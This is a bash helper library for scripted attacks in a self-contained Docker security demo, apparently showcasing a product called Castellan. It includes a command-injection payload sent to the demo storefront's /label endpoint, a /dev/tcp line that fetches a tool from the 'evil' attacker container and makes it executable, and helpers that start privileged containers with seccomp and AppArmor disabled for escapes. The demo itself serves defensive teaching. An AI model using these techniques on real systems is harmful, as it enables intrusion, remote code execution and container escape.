# shellcheck shell=bash
# What every attack on the demo begins with: . "$(dirname "$0")/lib.sh"
#
# An attack ends with one line of evidence on standard output and
#   exit 0   it worked
#   exit 1   it was stopped, or failed
#   exit 2   it did not begin: the demo doesn't run, or this machine can't
# It finds its targets by the demo's labels, touches nothing else, takes at
# most a minute, and removes what it made.
set -u

# The whole script runs below timeout(1), which ends what it started with it.
if [ -z "${DEMO_ATTACK:-}" ]; then
	export DEMO_ATTACK=1
	exec timeout --kill-after=10 60 bash "$0" "$@"
fi

mark=demo$$x$RANDOM # tells this run's traces from those of others
undo=()             # commands for the end, the last one first
# The image of every container that an attack brings: the storefront's Debian.
debian=castellan-demo/storefront:3

worked() { echo "worked: $*"; exit 0; }
stopped() { echo "stopped: $*"; exit 1; }
cannot() { echo "cannot: $*"; exit 2; }

# later COMMAND has the command run at the end, whatever happens.
later() { undo+=("$*"); }

clean_up() {
	local i
	for ((i = ${#undo[@]} - 1; i >= 0; i--)); do
		eval "${undo[i]}" >/dev/null 2>&1 || echo "left behind: ${undo[i]}" >&2
	done
}
trap clean_up EXIT
trap 'exit 1' INT TERM

# part NAME prints the id of the shop's container of this name.
part() {
	docker ps --quiet --filter label=castellan.demo=shop --filter "label=com.amazonaws.ecs.container-name=$1" | head -n 1
}

storefront=$(part storefront)
[ -n "$storefront" ] || cannot "the demo does not run; start it with: make demo"
[ -n "$(docker ps --quiet --filter label=castellan.demo=shop --filter name='^castellan-demo-evil$')" ] ||
	cannot "the attacker's machine is gone; start the demo again with: make demo"

# evil TOOL … runs a tool on the attacker's machine.
evil() { docker exec castellan-demo-evil /bin/evil "$@"; }

# seen PATTERN: the attacker's machine has noted such a line within 5 seconds.
seen() {
	local _
	for _ in 1 2 3 4 5 6 7 8 9 10; do
		docker logs --since 90s castellan-demo-evil 2>/dev/null | grep -q -- "$1" && return
		sleep 0.5
	done
	return 1
}

# urlencode TEXT prints the text as it may stand in an address.
urlencode() {
	local LC_ALL=C i c
	for ((i = 0; i < ${#1}; i++)); do
		c=${1:i:1}
		case $c in [a-zA-Z0-9._-]) printf %s "$c" ;; *) printf '%%%02X' "'$c" ;; esac
	done
}

# through_label COMMAND runs a shell command in the storefront, by its command
# injection, and prints the output. The line in front of it is the label's.
through_label() {
	evil get "http://storefront:8080/label?text=$(urlencode "for you; { $1
} 2>&1 #")" | tail -n +2
}

# in_storefront runs a command in the storefront by docker exec: to look and to
# clean up, not to attack.
in_storefront() { docker exec "$storefront" "$@"; }

# fetch_tool PATH is a shell command that downloads the attacker's program with
# what every Debian has.
fetch_tool() {
	printf %s "bash -c 'exec 3<>/dev/tcp/evil/80; printf \"GET /tool HTTP/1.0\r\n\r\n\" >&3; sed \"1,/^.\$/d\" <&3 >$1; chmod +x $1'"
}

# legacy ARGUMENT… starts a container, a task of the family "legacy" with these
# arguments to docker run, and sets $started to its id, or to why there is none.
legacy() {
	local name
	name=ecs-legacy-1-legacy-$(random_hex 10)
	later "docker rm -fv $name"
	started=$(docker run --detach --pull=never --name "$name" --network castellan-demo \
		--label castellan.demo=attack --label com.amazonaws.ecs.cluster=shop \
		--label com.amazonaws.ecs.task-arn="arn:aws:ecs:eu-central-1:123456789012:task/shop/$(random_hex 16)" \
		--label com.amazonaws.ecs.task-definition-family=legacy --label com.amazonaws.ecs.task-definition-version=1 \
		--label com.amazonaws.ecs.container-name=legacy --cpus=0.5 --memory=64m --memory-swap=64m --pids-limit=64 "$@" 2>&1)
}

# bring ARGUMENT… starts such a container for the attack, and sets $brought to its id.
bring() {
	if legacy --entrypoint sleep "$@" "$debian" 90; then
		brought=$started
		return
	fi
	problem=$started
	return 1
}

random_hex() { od -An -N"$1" -tx1 /dev/urandom | tr -d ' \n'; }

# bring_privileged ARGUMENT… brings a privileged container. A machine that
# withholds a capability from the engine itself can't start one; then it is one
# with all rights but that, which is as good for an escape.
bring_privileged() {
	bring --privileged "$@" && return
	[[ $problem == *"apply caps"* ]] || return
	bring --cap-add=ALL --cap-drop=SYS_RESOURCE --security-opt=seccomp=unconfined --security-opt=apparmor=unconfined "$@"
}

# socket_of_engine prints the path of the engine's socket on this machine.
socket_of_engine() {
	local engine=${DOCKER_HOST:-unix:///var/run/docker.sock}
	[[ $engine == unix://* ]] && echo "${engine#unix://}"
}

# make_scratch sets $scratch to a folder of the host that an escape may write
# to; it is removed at the end.
make_scratch() {
	socket_of_engine >/dev/null || cannot "the engine is on another machine"
	scratch=${XDG_CACHE_HOME:-$HOME/.cache}/castellan/demo/scratch-$mark
	mkdir -p "$scratch" || cannot "no folder to escape to"
	later "rm -rf '$scratch'"
}
